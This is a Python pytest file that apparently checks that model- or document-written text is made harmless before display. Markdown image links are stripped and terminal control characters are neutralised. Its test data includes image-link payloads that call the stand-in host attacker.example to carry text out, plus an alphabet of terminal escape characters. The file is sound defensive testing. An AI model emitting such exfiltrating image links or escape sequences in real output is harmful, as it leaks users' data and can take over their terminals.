"""What documents and models write can't act on whoever looks at it, in the UI or in a terminal."""

from __future__ import annotations

import io
import json
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from promptchain_dagster.cli.streams import print_json, printable
from promptchain_dagster.pipelines.chains.reports import _cell
from promptchain_dagster.pipelines.metadata import without_images

IMAGES = [
    "![x](https://attacker.example/?q=words)",
    "![x][1]\n\n[1]: https://attacker.example/",
    "[![x](https://attacker.example/)](https://attacker.example/)",
    "\\\\![x](https://attacker.example/)",
]


@pytest.mark.parametrize("text", IMAGES)
def test_no_image_of_a_models_text_is_loaded_by_the_ui(text: str) -> None:
    """An image's address can carry a document's words away when a browser shows it."""
    assert "![" not in without_images(text)
    assert without_images(text).replace("\\[", "[") == text.replace("\\[", "[")
    assert "![" not in _cell(text, 500)


@given(st.text(), st.text(alphabet="\x00\x1b\x7f\x9b\u202e[]0m", max_size=9))
def test_nothing_that_is_printed_is_a_command_to_a_terminal(text: str, more: str) -> None:
    """As plain text it is replaced, as JSON escaped, and there nothing is lost."""
    for shown in (printable(text + more), _printed({"a": text + more})):
        assert not any(c in shown for c in "\x00\x1b\x7f\x9b\x9d\x90")
        shown.encode()
    assert json.loads(_printed({"a": text + more})) == {"a": text + more}


def test_a_path_of_undecodable_bytes_can_be_printed_as_json() -> None:
    """It is the same path when it is read back."""
    assert json.loads(_printed({"path": "caf\udce9.txt"})) == {"path": "caf\udce9.txt"}


def _printed(value: object) -> str:
    kept, sys.stdout = sys.stdout, io.StringIO()
    try:
        print_json(value)
        return sys.stdout.getvalue()
    finally:
        sys.stdout = kept
